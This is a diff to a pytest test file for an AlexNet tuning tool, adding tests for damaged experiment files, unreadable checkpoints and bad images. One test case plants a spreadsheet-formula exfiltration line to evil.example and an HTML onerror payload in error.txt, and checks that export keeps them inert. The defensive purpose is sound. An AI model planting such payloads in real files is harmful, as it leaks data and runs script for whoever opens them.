@@ -4,9 +4,12 @@ export and report never hang, crash or read or write outside the experiment: one
 marked in the table (its error names the file and field) while the others export intact; a bad folder is one
 line and exit 2. load_model and predict refuse what they must, in one line. Everything here is a real file."""
 
+import io
 import json
 import os
 import shutil
+import subprocess
+import sys
 import time
 from dataclasses import dataclass
 from pathlib import Path
@@ -15,10 +18,11 @@ import numpy as np
 import pandas as pd
 import pytest
 import torch
-from conftest import CLASSES
+from conftest import CLASSES, NO_OVERRIDE
 
 from tune_alexnet import checkpoint
 from tune_alexnet.cli import main
+from tune_alexnet.export import FORMULA_START
 from tune_alexnet.model import AlexNet
 from tune_alexnet.settings import SETTINGS_FILE
 
@@ -237,6 +241,15 @@ CASES = {
     ),
     "error.txt is a FIFO": (swap("errored", "error.txt", "fifo"), Row("errored", "error.txt is a FIFO")),
     "error.txt of 3 MB: its tail is read": (long_error, Row("errored", "ValueError: the last line")),
+    # its last line, as a spreadsheet and a Markdown viewer would run it: kept as text in results.csv and report.md
+    "error.txt a formula and HTML": (
+        written(
+            "errored",
+            "error.txt",
+            'Traceback\n=HYPERLINK("http://evil.example/?"&A1,"go") <img src=x onerror=alert(3)>\n',
+        ),
+        Row("errored", '=HYPERLINK("http://evil.example/?"&A1,"go") <img'),
+    ),
     "result.json is a FIFO": (swap("terminated", "result.json", "fifo"), Row("damaged", "result.json is a FIFO")),
     "result.json links to /dev/zero": (
         swap("terminated", "result.json", "/dev/zero"),
@@ -431,6 +444,9 @@ def _check_table(folder: Folder, victim: str | None, expect: Row) -> None:
     for ckpt in table["best_checkpoint"].dropna():  # inside the experiment, and it loads
         assert os.path.realpath(ckpt).startswith(str(folder.exp.resolve()) + os.sep), ckpt
         assert checkpoint.load_model(ckpt)(torch.zeros(1, 3, 32, 32)).shape == (1, 10)
+    csv = pd.read_csv(folder.exp / "results.csv", dtype=str, keep_default_na=False)
+    assert not csv["error"].str.startswith(FORMULA_START).any(), csv["error"].tolist()  # no cell a formula
+    assert "<img" not in (folder.exp / "report.md").read_text()  # no HTML of the experiment's in the report
     unreadable = table["status"].isin(["damaged", "lost"]).any()
     assert ("## Trials that could not be read" in (folder.exp / "report.md").read_text()) == unreadable
 
@@ -567,6 +583,16 @@ def test_load_model_refuses_a_checkpoint_that_lies(case, ckpt):
     assert str(ckpt) in message and needle in message, message
 
 
+@pytest.mark.parametrize("name", ["model.pt", "model.json"])
+def test_a_checkpoint_file_you_cannot_read_is_said_to_be_so(ckpt, name):
+    """A user's own file at mode 0000 was 'not what torch.save writes'."""
+    (ckpt / name).chmod(0)
+    code = f"from tune_alexnet import checkpoint\ntry: checkpoint.load_model({str(ckpt)!r})\nexcept ValueError as e: print(e)"
+    done = subprocess.run([*NO_OVERRIDE, sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
+    assert done.stdout.strip().endswith(f"{ckpt / name} cannot be read (Permission denied: its mode, or its owner, "
+                                        "keeps you out)"), done.stdout + done.stderr[-2000:]  # fmt: skip
+
+
 @pytest.mark.parametrize("device", ["cuda:7", "meta", "mps", "cpu:5", "bogus"])
 def test_load_model_names_a_device_this_machine_lacks_not_the_checkpoint(ckpt, device):
     with pytest.raises(ValueError) as refused:
@@ -641,7 +667,18 @@ PREDICT_CASES = {
     "one PIL image": (lambda: _pil((32, 32)), "one PIL image"),
     "a PIL image of another size": (lambda: [_pil((64, 48))], "image 0 is 64x48; allowed: 32x32"),
     "a torch tensor": (lambda: torch.zeros(2, 3, 32, 32), "a Tensor"),
+    "a 16-bit PIL image": (lambda: [_pil((32, 32), "I;16")], "image 0 is of mode I;16, more than 8 bits a channel"),
+    "a float PIL image": (lambda: [_pil((32, 32), "F")], "image 0 is of mode F, more than 8 bits"),
+    "a truncated PNG": (lambda: [_truncated_png()], "image 0 cannot be read (image file is truncated"),
 }
+
+
+def _truncated_png():
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.fromarray(np.random.default_rng(0).integers(0, 256, (32, 32, 3), dtype=np.uint8)).save(buffer, "PNG")
+    return Image.open(io.BytesIO(buffer.getvalue()[:-200]))
 
 
 @pytest.mark.parametrize("case", list(PREDICT_CASES), ids=list(PREDICT_CASES))
